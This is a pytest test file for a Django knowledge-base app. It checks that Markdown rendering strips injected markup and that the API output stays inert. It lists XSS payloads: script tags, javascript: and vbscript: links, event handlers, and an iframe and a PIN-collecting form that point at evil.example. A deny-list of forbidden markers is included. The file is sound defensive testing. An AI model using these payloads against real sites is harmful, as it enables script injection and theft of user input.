"""Module bodies are Markdown rendered to sanitised HTML: injected markup renders inert."""

from __future__ import annotations

import pytest
from rest_framework.test import APIClient

from callcenter.accounts.models import User
from knowledge import services
from knowledge.content import TEXT_MODULE_KEYS
from knowledge.rendering import render_markdown
from tests.support.knowledge import publish

ATTACKS = [
    "<script>alert(1)</script>",
    "[Antrag](javascript:alert(1))",
    "[Antrag](JaVaScRiPt:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">x</p>',
    "<iframe src=https://evil.example></iframe>",
    "<svg><script>alert(1)</script></svg>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '<a href="vbscript:msgbox(1)">x</a>',
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=pin></form>",
]
FORBIDDEN = (
    "<script",
    "javascript:",
    "onerror",
    "onclick",
    "<iframe",
    "data:",
    "vbscript:",
    "<style",
    "<form",
    "<input",
    "<img",
    "<svg",
)


def _assert_inert(html: str) -> None:
    lowered = html.lower()
    for marker in FORBIDDEN:
        assert marker not in lowered, (marker, html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_injected_markup_renders_inert(attack: str) -> None:
    _assert_inert(render_markdown(f"Vorher\n\n{attack}\n\nNachher"))


def test_markdown_formatting_and_safe_links_survive() -> None:
    html = render_markdown(
        "**Wichtig:**\n\n- Ausweis\n- Foto\n\n[Termin](https://service.berlin.de) "
        "[Mail](mailto:buergeramt@example.org)"
    )
    assert "<strong>Wichtig:</strong>" in html
    assert "<li>Ausweis</li>" in html
    assert 'href="https://service.berlin.de"' in html
    assert 'href="mailto:buergeramt@example.org"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_relative_links_lose_their_target() -> None:
    assert "href" not in render_markdown("[x](/admin/)")


@pytest.mark.django_db
def test_script_injection_in_every_module_is_inert_in_the_api_output(
    editor: User, reviewer: User, agent: User
) -> None:
    payload = "\n\n".join(ATTACKS)
    service = services.service_create(
        actor=editor,
        content={"title": "<script>alert(1)</script>"} | dict.fromkeys(TEXT_MODULE_KEYS, payload),
    )
    service = publish(service, author=editor, reviewer=reviewer)
    client = APIClient()
    client.force_authenticate(agent)
    body = client.get(f"/api/v1/knowledge/services/{service.pk}/").json()
    assert [m["key"] for m in body["modules"]] == list(TEXT_MODULE_KEYS)
    for module in body["modules"]:
        _assert_inert(module["html"])
    row = client.get("/api/v1/knowledge/services/").json()["results"][0]
    _assert_inert(row["short_text_html"])
